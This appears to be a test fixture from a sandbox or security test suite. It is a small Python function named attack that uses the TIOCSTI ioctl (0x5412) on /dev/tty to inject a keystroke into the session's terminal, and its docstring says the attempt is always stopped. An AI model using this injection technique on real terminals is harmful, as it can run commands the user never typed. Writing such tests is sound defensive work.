"""Types into the terminal of the session that it belongs to.

kind: files
stopped by: always
"""

import fcntl
import os


def attack() -> bool:
    terminal = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(terminal, 0x5412, b"x")
    return True
